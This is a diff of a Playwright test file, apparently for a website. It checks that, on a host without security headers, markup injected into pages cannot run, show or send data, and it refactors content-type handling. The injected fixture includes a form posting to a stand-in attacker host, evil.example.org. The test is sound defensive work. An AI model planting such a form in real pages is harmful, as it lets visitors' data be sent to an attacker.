@@ -15,13 +15,7 @@ const injected = `
   <object data="/brand/mark.svg" type="image/svg+xml"></object>
   <form id="stolen" action="https://evil.example.org/"><button>Send</button></form>`;
 
-const types: Record<string, string> = {
-  css: 'text/css',
-  html: 'text/html',
-  js: 'text/javascript',
-  json: 'application/json',
-  svg: 'image/svg+xml',
-};
+const types = { css: 'text/css', html: 'text/html', js: 'text/javascript', json: 'application/json' };
 
 /** Serves the built site without a single header but the type, and with something added to every page. */
 function servePlainly(added: string) {
@@ -32,9 +26,9 @@ function servePlainly(added: string) {
         .map((name) => path.join(siteFolder, name))
         .find((name) => path.extname(name) && existsSync(name));
       if (!file) return void response.writeHead(404).end();
-      const type = types[path.extname(file).slice(1)];
-      if (type) response.setHeader('Content-Type', type);
+      const type = types[path.extname(file).slice(1) as keyof typeof types] ?? 'image/svg+xml';
       const content = readFileSync(file);
+      response.setHeader('Content-Type', type);
       response.end(type === types.html ? String(content).replace('</body>', `${added}</body>`) : content);
     }),
   );
@@ -62,14 +56,12 @@ test('on a host without headers nothing that is added to a page runs, shows or s
   await close();
 });
 
-test('on a host without headers the site works', async ({ page, texts }) => {
-  const errors: string[] = [];
-  page.on('console', (line) => line.type() === 'error' && errors.push(line.text()));
+test('on a host without headers the site works', async ({ page, texts, heading, errors }) => {
   const { url, close } = await servePlainly('');
   await page.goto(url);
   await hydrated(page);
   await page.getByRole('contentinfo').getByRole('link', { name: texts.shared.navigation.privacy }).click();
-  await expect(page.getByRole('heading', { level: 1 })).toHaveText(texts.privacy.banner.title);
+  await expect(heading).toHaveText(texts.privacy.banner.title);
   await page.getByRole('banner').getByRole('link', { name: 'English' }).click();
   await expect(page.locator('html')).toHaveAttribute('lang', 'en');
   expect(errors).toEqual([]);
